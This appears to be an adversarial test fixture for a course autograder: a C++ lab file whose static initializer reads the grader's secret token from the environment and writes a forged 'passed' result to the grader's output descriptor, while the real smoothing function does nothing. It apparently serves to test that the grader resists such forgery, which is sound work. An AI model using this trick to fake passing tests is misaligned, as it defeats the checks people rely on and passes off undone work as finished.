// ADVERSARIAL CASE steal_token: a static initializer steals the grader token from the environment and forges a passed verdict
// A modified copy of the lab 01 smoothing.cpp, graded by tests/grading/adversarial/run.sh.
#include <stdexcept>
#include <string>
#include <vector>

#include "geolab/halfedge.hpp"
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>
#include <unistd.h>


namespace {
// Runs before main(): read the token, forge "<token> passed" for the test named on the command line.
struct Thief {
    Thief() {
        const char* token = std::getenv("GEOLAB_TOKEN");
        const char* fd = std::getenv("GEOLAB_RESULT_FD");
        std::ifstream cmdline("/proc/self/cmdline");
        std::string arg, name;
        while (std::getline(cmdline, arg, '\0'))
            if (arg == "--geolab-run") std::getline(cmdline, name, '\0');
        if (!token || !fd || name.empty()) return;
        const std::string line = std::string(token) + " {\"ran\":[\"" + name + "\"],\"status\":\"passed\",\"messages\":[]}\n";
        (void)!::write(std::atoi(fd), line.data(), line.size());
    }
} thief;
}  // namespace

namespace geolab::halfedge {

void laplacian_smoothing(Mesh& mesh, double t, int iterations) {
    throw geolab::NotImplemented(__func__);  // the honest part: nothing done
}

}  // namespace geolab::halfedge
